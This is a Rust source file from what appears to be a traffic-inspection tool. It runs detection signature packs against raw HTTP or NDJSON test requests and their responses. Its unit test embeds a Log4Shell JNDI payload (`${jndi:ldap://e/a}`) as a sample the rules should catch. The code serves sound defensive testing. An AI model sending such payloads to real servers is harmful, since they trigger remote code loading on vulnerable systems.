//! What `meshsight signatures test RULES REQUESTS` runs: which rules fire on a set of requests.
//! The signature corpus tests (`cli/tests/corpus.rs` natively, `e2e_signatures` in a real Envoy)
//! read the corpus with it too.
//!
//! Requests come as raw HTTP/1.1 (one message after another, bodies framed by
//! `Content-Length`) or as NDJSON, one object per line:
//! `{"method": "POST", "path": "/x?y=1", "headers": [["content-type", "text/plain"]], "body": "..."}`
//! (`headers` may also be an object; `method` defaults to `GET`; optional `name`, `expect`
//! (`"hit"`/`"miss"`) and `category` are carried through). Each request is scanned exactly as
//! the mirror does it: head, then the body when a rule wants it. An NDJSON request may carry its
//! answer, `"response": {"status": 200, "headers": [..], "body": "..", "expect": "hit"}`, which
//! the response rules then scan as the module does.

use std::collections::BTreeMap;

use meshsight_policy::head::RequestHead;
use meshsight_policy::headers::HeaderBlock;
use meshsight_policy::mirror::decode::base64;
use meshsight_policy::mirror::signatures::pack::{self, Pack};
use meshsight_policy::mirror::signatures::{RequestView, SignatureSet};
use meshsight_policy::response::ResponsePolicy;
use meshsight_policy::ConfigError;
use serde::{Deserialize, Serialize};

/// Why a signature test could not run.
#[derive(Debug, thiserror::Error)]
pub enum TestError {
    /// The pack is not valid (JSON path inside the pack).
    #[error("pack: {0}")]
    Pack(ConfigError),
    /// A request could not be read.
    #[error("request {index} (line {line}): {reason}")]
    Request {
        /// 0-based index of the request.
        index: usize,
        /// 1-based line where it starts.
        line: usize,
        /// What is wrong.
        reason: String,
    },
}

/// Which packs to test with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Layering {
    /// The built-in pack with the given pack layered over it (what the mirror runs).
    OverBuiltin,
    /// The given pack alone.
    Alone,
}

/// One request to test.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct TestRequest {
    /// Optional label.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    /// Method.
    #[serde(default = "get")]
    pub method: String,
    /// Path with query, as sent.
    pub path: String,
    /// Headers in order (names lower-cased when read).
    #[serde(default, deserialize_with = "headers_any")]
    pub headers: Vec<(String, String)>,
    /// Body (text).
    #[serde(default)]
    pub body: String,
    /// Body bytes in base64, for a body that is not text (a `gzip` stream); replaces `body`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub body_base64: Option<String>,
    /// What the corpus expects: `hit` or `miss` (carried through).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub expect: Option<String>,
    /// Corpus category (carried through).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub category: Option<String>,
    /// Where the request comes from (carried through).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
    /// The answer, scanned by the response rules (`status`, `headers`, `body`, `expect`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub response: Option<TestResponse>,
}

/// The answer to a test request, for response rules.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct TestResponse {
    /// Status code.
    #[serde(default = "ok")]
    pub status: u16,
    /// Headers in order (names lower-cased when read).
    #[serde(default, deserialize_with = "headers_any")]
    pub headers: Vec<(String, String)>,
    /// Body (text).
    #[serde(default)]
    pub body: String,
    /// What the corpus expects of the response rules: `hit` or `miss`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub expect: Option<String>,
}

fn ok() -> u16 {
    200
}

/// What the response rules found in a test request's answer (never the secret itself).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ResponseTested {
    /// `succeeded`, `attempted` or `none`.
    pub outcome: String,
    /// Response rule ids that matched, head first.
    pub rules: Vec<String>,
    /// ATT&CK techniques of the matches.
    pub techniques: Vec<String>,
}

fn get() -> String {
    "GET".to_string()
}

fn headers_any<'de, D: serde::Deserializer<'de>>(d: D) -> Result<Vec<(String, String)>, D::Error> {
    #[derive(Deserialize)]
    #[serde(untagged)]
    enum Headers {
        List(Vec<(String, String)>),
        Map(std::collections::BTreeMap<String, String>),
    }
    Ok(match Headers::deserialize(d)? {
        Headers::List(l) => l,
        Headers::Map(m) => m.into_iter().collect(),
    }
    .into_iter()
    .map(|(k, v)| (k.to_ascii_lowercase(), v))
    .collect())
}

/// What fired on one request.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RequestVerdict {
    /// The request as read.
    pub request: TestRequest,
    /// Categories that matched, in report order.
    pub categories: Vec<String>,
    /// Rule ids that matched, in report order.
    pub rules: Vec<String>,
    /// What the response rules found, when the request came with a response.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub response: Option<ResponseTested>,
    /// For each of `rules`, the view it first matched in (`query.params`, `body.multipart`,
    /// `body.inflated.params`, `headers.credentials`, ...).
    pub views: Vec<String>,
    /// What decoding the request found wrong (`multipart_malformed`, `body_encoding_broken`,
    /// `body_inflate_bomb`, `basic_credentials_invalid`, ...).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub findings: Vec<String>,
}

impl RequestVerdict {
    /// Whether any rule fired.
    pub fn hit(&self) -> bool {
        !self.rules.is_empty()
    }

    /// `rule@view` for each rule that fired, then the findings in brackets, for the text
    /// report (`-` for nothing).
    pub fn views_text(&self) -> String {
        let mut out: Vec<String> = self
            .rules
            .iter()
            .zip(&self.views)
            .map(|(r, v)| format!("{r}@{v}"))
            .collect();
        if !self.findings.is_empty() {
            out.push(format!("[{}]", self.findings.join(",")));
        }
        if out.is_empty() {
            "-".to_string()
        } else {
            out.join(" ")
        }
    }
}

impl TestRequest {
    /// The body bytes: `body_base64` decoded when given (invalid base64 reads as no body),
    /// `body` otherwise.
    pub fn body_bytes(&self) -> Vec<u8> {
        match &self.body_base64 {
            Some(b64) => base64::decode(b64.as_bytes(), usize::MAX).unwrap_or_default(),
            None => self.body.as_bytes().to_vec(),
        }
    }
}

/// A corpus run's tally per category and expectation: how many requests, how many did what
/// their line expects, and a description of each that did not. The native and the real-Envoy
/// corpus tests report through it.
#[derive(Debug, Default)]
pub struct CorpusTally {
    counts: BTreeMap<(String, String), (usize, usize)>,
    wrong: Vec<String>,
}

impl CorpusTally {
    /// Counts `r` under its category and expectation; `detail` describes it when not `ok`.
    pub fn record(&mut self, r: &TestRequest, ok: bool, detail: impl FnOnce() -> String) {
        let key = (
            r.category.clone().unwrap_or_default(),
            r.expect.clone().unwrap_or_default(),
        );
        let entry = self.counts.entry(key).or_default();
        entry.0 += 1;
        if ok {
            entry.1 += 1;
        } else {
            self.wrong.push(detail());
        }
    }

    /// The table `category expect requests <last column>`, one line per category and
    /// expectation.
    pub fn table(&self, last_column: &str) -> String {
        let mut out = format!("category            expect  requests  {last_column}\n");
        for ((category, expect), (n, ok)) in &self.counts {
            out.push_str(&format!("{category:<19} {expect:<7} {n:>8}  {ok:>11}\n"));
        }
        out
    }

    /// `Err` listing every request that did not do what its line expects.
    pub fn verdict(&self) -> Result<(), String> {
        if self.wrong.is_empty() {
            Ok(())
        } else {
            Err(format!(
                "{} wrong:\n{}",
                self.wrong.len(),
                self.wrong.join("\n")
            ))
        }
    }
}

/// Runs `requests` (raw HTTP or NDJSON) against `pack` (a pack document), layered as asked.
pub fn test_requests(
    pack: &[u8],
    requests: &[u8],
    layering: Layering,
) -> Result<Vec<RequestVerdict>, TestError> {
    let user = Pack::from_json(pack).map_err(TestError::Pack)?;
    let mut packs = Vec::new();
    if layering == Layering::OverBuiltin {
        packs.push(Pack::builtin().map_err(TestError::Pack)?);
    }
    packs.push(user);
    let set = SignatureSet::new(pack::layer(packs), true).map_err(TestError::Pack)?;
    Ok(parse_requests(requests)?
        .into_iter()
        .map(|r| run(&set, r))
        .collect())
}

/// Scans one request as the mirror does: head, then the body when a rule wants it.
pub fn run(set: &SignatureSet, request: TestRequest) -> RequestVerdict {
    run_with_responses(set, None, request)
}

/// [`run`], then the request's response (when it has one) with the response rules, as the
/// module scans it: head, then the first `max_response_bytes` of the body.
pub fn run_with_responses(
    set: &SignatureSet,
    responses: Option<&ResponsePolicy>,
    request: TestRequest,
) -> RequestVerdict {
    let mut headers = request.headers.clone();
    if !headers
        .iter()
        .any(|(k, _)| k == ":authority" || k == "host")
    {
        headers.push((":authority".into(), "localhost".into()));
    }
    let headers = HeaderBlock::from(headers);
    let view = RequestView {
        method: &request.method,
        path: &request.path,
        headers: &headers,
    };
    let mut hits = set.new_hits();
    set.scan_head(&view, &mut hits);
    let body = request.body_bytes();
    if !hits.any() && !body.is_empty() && set.wants_body(&view) {
        set.scan_body(&view, &body, &mut hits);
    }
    let response = responses
        .zip(request.response.as_ref())
        .map(|(policy, answer)| {
            let head = RequestHead::from_block(headers.clone());
            let pairs = answer.headers.iter().map(|(n, v)| (n.as_str(), v.as_str()));
            let mut scan = policy.scan_head(&head, answer.status, pairs);
            scan.push_body(answer.body.as_bytes());
            let verdict = policy.finish(&head, scan, hits.any());
            ResponseTested {
                outcome: verdict.outcome().to_string(),
                rules: verdict.findings.iter().map(|f| f.rule.clone()).collect(),
                techniques: verdict
                    .findings
                    .iter()
                    .filter_map(|f| f.technique.clone())
                    .collect(),
            }
        });
    let (rules, views) = set.hit_views(&hits).into_iter().unzip();
    RequestVerdict {
        categories: set.hit_names(&hits),
        rules,
        views,
        findings: hits.findings().into_iter().map(str::to_string).collect(),
        response,
        request,
    }
}

/// Reads requests: NDJSON when the first line that is neither blank nor a `//` comment starts
/// with `{`, raw HTTP otherwise.
pub fn parse_requests(input: &[u8]) -> Result<Vec<TestRequest>, TestError> {
    let first = input
        .split(|b| *b == b'\n')
        .map(<[u8]>::trim_ascii)
        .find(|l| !l.is_empty() && !l.starts_with(b"//"));
    match first {
        Some(l) if l.starts_with(b"{") => parse_ndjson(input),
        Some(_) => parse_raw_http(input),
        None => Ok(Vec::new()),
    }
}

fn parse_ndjson(input: &[u8]) -> Result<Vec<TestRequest>, TestError> {
    let mut out = Vec::new();
    for (n, line) in input.split(|b| *b == b'\n').enumerate() {
        let trimmed = line.trim_ascii();
        if trimmed.is_empty() || trimmed.starts_with(b"//") {
            continue;
        }
        let request: TestRequest =
            ConfigError::deserialize_json(trimmed).map_err(|e| TestError::Request {
                index: out.len(),
                line: n + 1,
                reason: e.to_string(),
            })?;
        out.push(request);
    }
    Ok(out)
}

fn parse_raw_http(input: &[u8]) -> Result<Vec<TestRequest>, TestError> {
    let mut out = Vec::new();
    let mut pos = 0;
    let line_of = |at: usize| {
        input[..at.min(input.len())]
            .iter()
            .filter(|b| **b == b'\n')
            .count()
            + 1
    };
    while pos < input.len() {
        while pos < input.len() && input[pos].is_ascii_whitespace() {
            pos += 1;
        }
        if pos >= input.len() {
            break;
        }
        let fail = |reason: &str| TestError::Request {
            index: out.len(),
            line: line_of(pos),
            reason: reason.to_string(),
        };
        let rest = &input[pos..];
        let (head_len, sep) = match find(rest, b"\r\n\r\n") {
            Some(at) => (at, 4),
            None => match find(rest, b"\n\n") {
                Some(at) => (at, 2),
                None => (rest.len(), 0),
            },
        };
        let head = String::from_utf8_lossy(&rest[..head_len]);
        let mut lines = head.lines();
        let request_line = lines.next().unwrap_or("");
        let mut parts = request_line.split_whitespace();
        let (Some(method), Some(path)) = (parts.next(), parts.next()) else {
            return Err(fail("expected a request line `METHOD /path HTTP/1.1`"));
        };
        let mut headers = Vec::new();
        for l in lines {
            let Some((k, v)) = l.split_once(':') else {
                return Err(fail(&format!("header line without `:`: {l:?}")));
            };
            headers.push((k.trim().to_ascii_lowercase(), v.trim().to_string()));
        }
        let length = match headers.iter().find(|(k, _)| k == "content-length") {
            Some((_, v)) => v
                .parse::<usize>()
                .map_err(|_| fail("content-length is not a number"))?,
            None => 0,
        };
        let body_start = head_len + sep;
        let body_end = (body_start + length).min(rest.len());
        let body =
            String::from_utf8_lossy(rest.get(body_start..body_end).unwrap_or(&[])).into_owned();
        if let Some((_, host)) = headers.iter().find(|(k, _)| k == "host") {
            let host = host.clone();
            headers.push((":authority".into(), host));
        }
        out.push(TestRequest {
            name: None,
            method: method.to_string(),
            path: path.to_string(),
            headers,
            body,
            body_base64: None,
            expect: None,
            category: None,
            source: None,
            response: None,
        });
        pos += body_end.max(head_len);
    }
    Ok(out)
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_cli_function_reads_raw_http_and_ndjson() {
        let pack = br#"{"pack":"p","rules":[{"id":"acme","name":"a","category":"acme","severity":"low","in":["body"],"match":{"any":["acme-backdoor"]}}]}"#;
        let raw = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: 13\r\n\r\nacme-backdoorGET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: a\r\n\r\n";
        let v = test_requests(pack, raw, Layering::OverBuiltin).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(v.len(), 2);
        assert_eq!(v[0].rules, ["acme"]);
        assert_eq!(v[1].categories, ["log4shell"]);
        let v = test_requests(pack, raw, Layering::Alone).unwrap_or_else(|e| panic!("{e}"));
        assert!(!v[1].hit());
        let nd = br#"{"method":"POST","path":"/u","body":"acme-backdoor"}"#;
        let v = test_requests(pack, nd, Layering::Alone).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(v[0].categories, ["acme"]);
        let err = test_requests(b"{}", nd, Layering::Alone)
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("pack: pack: missing field") || err.contains("missing field"),
            "{err}"
        );
    }
}
